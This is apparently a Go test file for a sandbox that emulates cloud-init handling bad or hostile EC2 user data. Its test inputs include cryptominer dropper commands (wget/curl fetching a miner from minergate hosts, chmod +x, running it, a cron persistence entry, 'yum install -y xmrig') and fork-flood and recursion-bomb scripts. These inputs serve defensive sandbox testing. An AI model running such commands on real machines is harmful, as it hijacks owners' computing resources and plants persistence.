package behaviour

import (
	"bytes"
	"compress/gzip"
	"strings"
	"testing"
	"time"

	"github.com/irdrill/irdrill/sandbox/behaviour/trace"
)

func gz(t *testing.T, s string) []byte {
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	w.Write([]byte(s))
	w.Close()
	return b.Bytes()
}

// Bad user data never fails anything: each case boots, and the console
// says what cloud-init (or the sandbox) makes of it.
func TestBadUserDataBecomesConsoleLines(t *testing.T) {
	mime := func(body string) string {
		return "Content-Type: multipart/mixed; boundary=\"//\"\nMIME-Version: 1.0\n\n" + body
	}
	cases := []struct {
		name     string
		data     []byte
		want     []string
		steps    bool // stopped at the step bound
		wantDigs int
	}{
		{name: "shell syntax error runs what comes before it",
			data: []byte("#!/bin/bash\ndig first.example\nif then fi\ndig never.example\n"),
			want: []string{
				"/var/lib/cloud/instance/scripts/part-001: line 3: syntax error:",
				"util.py[WARNING]: Failed running /var/lib/cloud/instance/scripts/part-001 [2]",
				"cc_scripts_user.py[WARNING]: Failed to run module scripts-user (scripts in /var/lib/cloud/instance/scripts)",
			}, wantDigs: 1},
		{name: "bad YAML",
			data: []byte(mime("--//\nContent-Type: text/cloud-config\n\n#cloud-config\ncloud_final_modules: [\n--//\n" +
				"Content-Type: text/x-shellscript\n\n#!/bin/bash\ndig once.example\n--//--\n")),
			want: []string{"util.py[WARNING]: Failed loading yaml blob. Invalid format at line"}, wantDigs: 1},
		{name: "YAML that is not a mapping",
			data: []byte("#cloud-config\n- a\n- b\n"),
			want: []string{"Failed loading yaml blob. Yaml load allows (<type 'dict'>,) root types, but got list instead"}},
		{name: "boundary never found",
			data: []byte(mime("no parts here\n")),
			want: []string{`irdrill[2263]: user data: bad MIME: boundary "//" never appears; no part handled`}},
		{name: "malformed part header",
			data: []byte(mime("--//\nContent-Type text/x-shellscript\n\n#!/bin/bash\ndig x\n--//--\n")),
			want: []string{"user data: bad MIME after part 0: malformed MIME header"}},
		{name: "unknown part type",
			data: []byte(mime("--//\nContent-Type: text/x-nonsense\n\nhello there\n--//--\n")),
			want: []string{"__init__.py[WARNING]: Unhandled unknown content-type (text/x-nonsense) userdata: 'hello there...'"}},
		{name: "plain text",
			data: []byte("just some words\n"),
			want: []string{"Unhandled non-multipart (text/x-not-multipart) userdata: 'just some words...'"}},
		{name: "gzip script",
			data: gz(t, "#!/bin/bash\ndig gzipped.example\n"), wantDigs: 1},
		{name: "cloud-config alone",
			data: gz(t, "#cloud-config\npackages: [nginx]\n"),
			want: []string{"Cloud-init v. 19.3-44.amzn2 finished at"}},
		{name: "empty user data", data: nil, want: []string{"Cloud-init v. 19.3-44.amzn2 finished at"}},
		{name: "binary garbage", data: []byte("\x00\x01\x02\xff\xfe"),
			want: []string{`Unhandled non-multipart (text/x-not-multipart) userdata: '\x00\x01\x02\xff\xfe...'`}},
		{name: "include is not modelled",
			data: []byte("#include\nhttp://example.com/more\n"),
			want: []string{"user data: part-001 (text/x-include-url) not modelled"}},
		{name: "loop without commands is stopped at the step bound",
			data:  []byte("#!/bin/bash\nwhile [[ 1 ]]; do x=1; done\n"),
			want:  []string{"stopped after", "step bound reached", "Failed running /var/lib/cloud/instance/scripts/part-001 [-]"},
			steps: true},
		{name: "recursion is stopped before the stack overflows",
			data: []byte("#!/bin/bash\nf() { f; }\nf\n"),
			want: []string{"maximum nesting of functions, evals and scripts reached"}},
		{name: "a script that runs itself is stopped",
			data: []byte("#!/bin/bash\n$0\n"),
			want: []string{"maximum nesting of functions, evals and scripts reached"}},
		{name: "sleeping loop is stopped at the time budget",
			data: []byte("#!/bin/bash\nwhile true; do sleep 1; done\n"),
			want: []string{"sandbox-time budget reached"}},
		{name: "the process table fills up",
			data: []byte("#!/bin/bash\nfor i in {1..300}; do sleep 100 & done\necho spawned\n"),
			want: []string{"part-001: fork: Resource temporarily unavailable", "cloud-init[2598]: spawned"}},
		{name: "not-modelled commands are recorded and succeed",
			data: []byte("#!/bin/bash\nset -e\nyum install -y xmrig\n/usr/bin/python3 -c 'print(1)'\ndig after.example\n"),
			want: []string{"not modelled (command not modelled): yum install -y xmrig",
				"not modelled (not on the sandbox's volume): /usr/bin/python3 -c print(1)"}, wantDigs: 1},
		{name: "script output reaches the console",
			data: []byte("#!/bin/bash\necho hello from user data\necho oops >&2\nexit 3\n"),
			want: []string{"cloud-init[2598]: hello from user data", "cloud-init[2598]: oops",
				"Failed running /var/lib/cloud/instance/scripts/part-001 [3]"}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			r := newRig(t, c.data, func(cfg *Config) { cfg.MaxSteps = 5000; cfg.MaxRunTime = 10 * time.Minute })
			r.boot()
			r.advance(20 * time.Minute)
			out := r.console()
			for _, w := range c.want {
				if !strings.Contains(out, w) {
					t.Errorf("console lacks %q:\n%s", w, out)
				}
			}
			digs := 0
			for _, ev := range r.in.Events() {
				if ev.Kind == trace.DNS {
					digs++
				}
			}
			if digs != c.wantDigs {
				t.Errorf("%d DNS queries, want %d", digs, c.wantDigs)
			}
			if c.steps {
				if run := r.in.Runs()[0]; run.Stopped != "step bound reached" || run.Steps <= 5000 {
					t.Errorf("run = %+v, want stopped at the step bound", run)
				}
			}
		})
	}
}

func TestSeedTruncatedUserDataStillRuns(t *testing.T) {
	// The seed ends with "--//" and no close delimiter; cut it further,
	// inside the script, and what is there still runs.
	seed := string(seedUserData(t))
	cut := seed[:strings.Index(seed, "for i in {1..10}")]
	r := newRig(t, []byte(cut), nil)
	r.boot()
	r.advance(time.Minute)
	persist, err := r.in.ReadFile("/usr/cryptokit/persist.sh")
	if err != nil || !strings.HasSuffix(string(persist), "> /dev/null &\n") {
		t.Fatalf("persist.sh = %q, %v", persist, err)
	}
}

// The console of user data that goes wrong in several ways at once, as a
// golden file: cloud-init's warnings, the script's own output and errors,
// and the sandbox's notes, in time order.
func TestFailingUserDataConsole(t *testing.T) {
	ud := "Content-Type: multipart/mixed; boundary=\"==X==\"\nMIME-Version: 1.0\n\n" +
		"--==X==\nContent-Type: text/cloud-config\n\n#cloud-config\nruncmd: [\n" +
		"--==X==\nContent-Type: text/x-shellscript\nContent-Disposition: attachment; filename=\"setup.sh\"\n\n" +
		"#!/bin/bash\necho starting\nyum install -y xmrig\ncurl -sS http://xmr.pool.minergate.comac/x\n" +
		"wget -q http://pool.minergate.com/miner -O /tmp/miner && chmod +x /tmp/miner\n/tmp/miner --donate-level 1\n" +
		"echo '* * * * * /tmp/miner' | crontab -\nif [ x ]; then\n" +
		"--==X==\nContent-Type: application/x-sh\n\necho odd\n"
	r := newRig(t, []byte(ud), nil)
	r.boot()
	r.advance(3 * time.Minute)
	golden(t, "failing-console.golden", r.in.ConsoleOutput())
}

func TestBackgroundJobsAreBounded(t *testing.T) {
	r := newRig(t, []byte("#!/bin/bash\nfor i in {1..300}; do sleep 100 & done\necho spawned\n"), nil)
	r.boot()
	r.advance(time.Minute)
	if n := strings.Count(r.console(), "fork: Resource temporarily unavailable"); n != 300-256 {
		t.Errorf("%d forks refused, want %d", n, 300-256)
	}
	r.advance(5 * time.Minute) // the jobs end, so the table empties
	if n := r.in.machine.Pending(); n != 0 {
		t.Errorf("%d jobs live after they all ended", n)
	}
	r.in.Stop()
	r.boot()
	if r.in.machine.Pending() != 0 {
		t.Errorf("%d jobs counted live after a reboot", r.in.machine.Pending())
	}
}
